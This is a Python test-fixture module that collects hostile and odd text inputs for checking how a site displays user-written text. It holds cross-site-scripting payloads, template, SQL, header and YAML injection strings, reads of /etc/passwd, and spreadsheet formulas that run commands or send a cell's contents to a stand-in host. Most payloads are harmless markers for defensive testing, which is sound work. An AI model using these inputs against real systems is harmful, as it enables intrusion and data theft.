"""Text that means harm, or only looks as if it did. Every page that shows what somebody wrote is shown these.

`HOSTILE` maps a name to a text. No text holds NUL, which no channel lets through; each is otherwise as long and as odd
as somebody can make it. Invisible characters stand as escapes, so that this file itself can be read.
"""

from collections.abc import Mapping
from types import MappingProxyType

LONGEST = 100_000

_MARKUP = {
    "a bold word": "<b>fed</b> & <i>kursiv</i>",
    "a script": "<script>document.title='hostile'</script>",
    "a script in capitals": "<ScRiPt SRC=//x.invalid/a.js></sCrIpT>",
    "an image that runs": '<img src=x onerror="document.title=`hostile`">',
    "a drawing that runs": "<svg/onload=document.title='hostile'>",
    "a link that runs": '<a href="javascript:document.title=1">tryk</a>',
    "a form": "<form action=/admin/sign-out method=post><button>tryk</button></form>",
    "a frame": "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "the end of an attribute": '" autofocus onfocus="document.title=1',
    "the end of an attribute in single quotes": "' onmouseover='document.title=1",
    "the end of a text area": "</textarea></form><script>document.title=1</script>",
    "the end of a title": "</title></head><body onload=document.title=1>",
    "a comment that never ends": "<!-- og så",
    "a style": "<style>*{display:none}</style>",
    "an entity": "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "half a tag": "3 < 4 og 5 > 2, <ikke en tag",
    "our own mark": '<mark class="words-found">ikke vores</mark>',
}

_SYNTAX = {
    "a template expression": "{{ 7 * 7 }} {{ config }} {{ self.__init__.__globals__ }}",
    "a template statement": "{% for x in range(9) %}x{% endfor %} {# skjult #}",
    "old placeholders": "%(name)s %s %d %n 100 %",
    "new placeholders": "{0} {name} {0.__class__} ${HOME} $(id) `id`",
    "typst code": '#read("/etc/passwd") #eval("1+1") #image("x.png")',
    "typst markup": "= Overskrift\n*fed* _kursiv_ $x^2$ @henvisning <mærke> \\ ~ #[",
    "typst left open": '#let x = "',
    "SQL": "'); DROP TABLE comment; -- \" OR 1=1 /*",
    "a path": "../../../../etc/passwd",
    "new lines for a head": "Emne\r\nBcc: nogen@example.invalid\r\n\r\nhej",
    "JSON": '{"outcome": "finished", "answers": {}}',
    "YAML": "!!python/object/apply:os.system ['id']",
}

_SHEETS = {
    "a formula": "=1+1",
    "a formula that fetches": '=HYPERLINK("http://x.invalid/?"&A1;"tryk")',
    "a formula that runs": "=cmd|' /C calc'!A0",
    "a plus": "+45 er ikke en formel",
    "a minus": "-2+3",
    "an at sign": "@SUM(A1:A9)",
    "a tab first": "\t=1+1",
    "a carriage return first": "\r=1+1",
    "a line feed first": "\n=1+1",
    "a space first": "  =1+1",
    "a full-width equals sign": "\uff1d1+1",
    "separators and quotes": 'a;b,c\t"d""e"\nf',
}

_DIRECTIONS = {
    "right to left": "السكان هنا طيبون والقهوة ساخنة",
    "right to left among left to right": "Hun sagde شكرا 12 og gik",
    "an override": "Godkendt \u202edkjl ekki\u202c slut",
    "an override left open": "Ikke \u202eneppåb",
    "an embedding left open": "Tekst \u202b\u202a og mere",
    "isolates left open": "Tekst \u2066 \u2067 \u2068 og mere",
    "marks": "a\u200eb\u200fc\u061cd",
}

_UNSEEN = {
    "zero width": "Hel\u200bhe\u200cden\u200d\u2060\ufeff her",
    "a number broken by what is not seen": "0101\u200b50-\u20601234",
    "a soft hyphen": "pleje\u00adcenter",
    "controls": "".join(chr(code) for code in range(1, 32))
    + "\x7f"
    + "".join(chr(code) for code in range(0x80, 0xA0)),
    "line separators": "en\u2028to\u2029tre\x85fire\x0bfem\x0cseks",
    "only spaces": " \t\u00a0\u3000\n ",
    "tags that are not seen": "hej\U000e0041\U000e0042\U000e007f",
    "private and unassigned": "\ue000\U0010ffff\ufffe\ufdd0",
}

_SIGNS = {
    "emoji": "Dejligt 😀👍🏽 ❤️ 👩\u200d👩\u200d👧\u200d👦 🇩🇰 1️⃣",
    "a hundred accents on a letter": "e" + "\u0301" * 100,
    "letters that look like ours": "раураl Аnnа",
    "numbers of other scripts": "٠١٠١٥٠-١٢٣٤ ０１０１５０１２３４",
    "a letter in two pieces": "A\u030angst for A\u030arhus",
    "wide and joined": "ﬁn ﷽ 𝕳𝖊𝖏",
}

_LENGTHS = {
    "one long word": "a" * LONGEST,
    "many words": ("kaffe og kage " * (LONGEST // 14 + 1))[:LONGEST],
    "many lines": "\n" * (LONGEST - 1) + "x",
    "many brackets": "[" * LONGEST,
    "many digits": "1" * LONGEST,
    "many at signs": "a@" * (LONGEST // 2),
    "many numbers": ("+45 " * (LONGEST // 4 + 1))[:LONGEST],
    "many capitals": ("Aa " * (LONGEST // 3 + 1))[:LONGEST],
    "much markup": ("<b>" * (LONGEST // 3 + 1))[:LONGEST],
}

HOSTILE: dict[str, str] = {
    **_MARKUP,
    **_SYNTAX,
    **_SHEETS,
    **_DIRECTIONS,
    **_UNSEEN,
    **_SIGNS,
    **_LENGTHS,
}

KINDS: Mapping[str, Mapping[str, str]] = MappingProxyType(
    {
        "markup": _MARKUP,
        "syntax": _SYNTAX,
        "sheets": _SHEETS,
        "directions": _DIRECTIONS,
        "unseen": _UNSEEN,
        "signs": _SIGNS,
        "lengths": _LENGTHS,
    }
)
